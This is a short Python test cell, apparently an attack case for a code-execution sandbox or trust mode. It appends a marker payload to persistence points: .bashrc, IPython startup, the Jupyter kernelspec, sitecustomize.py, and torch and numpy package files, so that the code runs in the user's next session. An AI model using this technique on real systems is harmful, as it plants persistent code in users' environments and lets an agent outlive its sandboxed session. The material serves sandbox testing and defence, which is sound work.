# attack: writes into start-up files, kernelspecs and site-packages, to be run in the next turn
# on: empty
# harm: under --trust the next Python or shell of this user runs the code
# %%
import os
import pathlib
import site

code = "import builtins\nbuiltins.OWNED = True\n"
home = pathlib.Path.home()
places = [
    home / ".bashrc",
    home / ".ipython/profile_default/startup/00.py",
    home / ".local/share/jupyter/kernels/python3/kernel.json",
    *(pathlib.Path(p) / "sitecustomize.py" for p in site.getsitepackages()),
    pathlib.Path(torch.__file__).parent / "__init__.py",
    pathlib.Path(np.__file__).parent / "conftest.py",
]
for place in places:
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        with open(place, "a") as file:
            file.write(code)
    except OSError:
        continue
